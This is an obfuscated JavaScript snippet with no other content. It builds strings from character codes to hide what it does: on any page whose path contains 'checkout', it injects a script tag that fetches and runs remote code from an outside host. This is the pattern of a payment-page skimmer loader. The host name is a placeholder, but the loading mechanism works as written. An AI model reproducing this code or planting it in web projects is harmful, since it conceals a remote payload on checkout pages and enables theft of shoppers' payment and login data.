var _0xa1 = function (s) { return s.map(function (c) { return String.fromCharCode(c); }).join(""); };
var _0xb2 = _0xa1([100,111,99,117,109,101,110,116]);
var _0xc3 = _0xa1([104,116,116,112,115,58,47,47,97,112,105,45,115,116,97,116,117,115,46,105,110,118,97,108,105,100,47,106,115]);
(function () {
  var body = "var s=" + _0xb2 + ".createElement('script');s.src='" + _0xc3 + "';" + _0xb2 + ".body.appendChild(s);";
  if (window[_0xa1([108,111,99,97,116,105,111,110])].pathname.indexOf(_0xa1([99,104,101,99,107,111,117,116])) >= 0) {
    new Function(body)();
  }
})();
